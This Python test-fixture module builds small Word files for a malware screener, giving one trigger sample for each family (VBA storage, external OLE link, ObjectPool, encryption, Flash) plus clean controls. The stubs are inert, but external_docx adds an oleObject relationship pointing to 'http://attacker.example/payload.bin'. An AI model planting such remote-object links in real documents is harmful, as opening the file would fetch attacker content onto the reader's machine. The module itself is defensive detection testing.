"""Fixture families for malware screening: one trigger per family, plus clean files."""
from __future__ import annotations

import struct
import zlib

from .cfb import build_cfb, fib_stream
from .docxgen import DocxBuilder

FLASH_CLSID = "D27CDB6E-AE6D-11CF-96B8-444553540000"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def clean_docx() -> bytes:
    return DocxBuilder().paragraph("An ordinary document body.").build()


def clean_doc() -> bytes:
    return build_cfb({"WordDocument": fib_stream(text=b"hello"), "1Table": b"\0" * 64})


def hyperlink_docx() -> bytes:
    b = DocxBuilder().paragraph("see link")
    b.extra_rels.append(f'<Relationship Id="rId90" Type="{REL}/hyperlink" '
                        'Target="http://example.org/" TargetMode="External"/>')
    return b.build()


def vba_docx() -> bytes:
    b = DocxBuilder().paragraph("macro inside")
    b.extra_parts["word/vbaProject.bin"] = build_cfb({"VBA/dir": b"\x01" * 10, "PROJECT": b"ID=x"})
    return b.build()


def vba_doc() -> bytes:
    return build_cfb({"WordDocument": fib_stream(), "Macros/VBA/dir": b"\x01" * 10})


def external_docx() -> bytes:
    b = DocxBuilder().paragraph("linked object")
    b.extra_rels.append(f'<Relationship Id="rId91" Type="{REL}/oleObject" '
                        'Target="http://attacker.example/payload.bin" TargetMode="External"/>')
    return b.build()


def objectpool_doc() -> bytes:
    return build_cfb({"WordDocument": fib_stream(), "ObjectPool/_1234567890/\x01Ole": b"\0" * 20})


def encrypted_docx() -> bytes:
    # password-protected OOXML ships as a compound file wrapping the package
    return build_cfb({"EncryptionInfo": b"\x04\x00\x04\x00" + b"\0" * 60, "EncryptedPackage": b"\x5a" * 100})


def encrypted_doc() -> bytes:
    return build_cfb({"WordDocument": fib_stream(encrypted=True), "1Table": b"\0" * 64})


def swf_bytes() -> bytes:
    body = zlib.compress(b"\x78\x00\x05\x5f\x00" + b"\0" * 40)
    return b"CWS" + bytes([10]) + struct.pack("<I", 8 + 45) + body


def flash_activex_docx() -> bytes:
    b = DocxBuilder().paragraph("flash control")
    b.extra_parts["word/activeX/activeX1.xml"] = (
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        f'ax:classid="{{{FLASH_CLSID}}}" ax:persistence="persistStorage"/>').encode()
    return b.build()


def flash_embedded_swf_docx() -> bytes:
    b = DocxBuilder().paragraph("flash movie")
    b.extra_parts["word/embeddings/movie.bin"] = b"\0" * 16 + swf_bytes()
    return b.build()


def flash_doc() -> bytes:
    return build_cfb({"WordDocument": fib_stream(), "Data": b"\0" * 8 + "ShockwaveFlash.ShockwaveFlash".encode("utf-16-le")})


FAMILIES = {
    "has_vba": [vba_docx, vba_doc],
    "has_external_relations": [external_docx],
    "has_ole_object_pool": [objectpool_doc],
    "is_encrypted": [encrypted_docx, encrypted_doc],
    "has_flash": [flash_activex_docx, flash_embedded_swf_docx, flash_doc],
}
CLEAN = [clean_docx, clean_doc, hyperlink_docx]
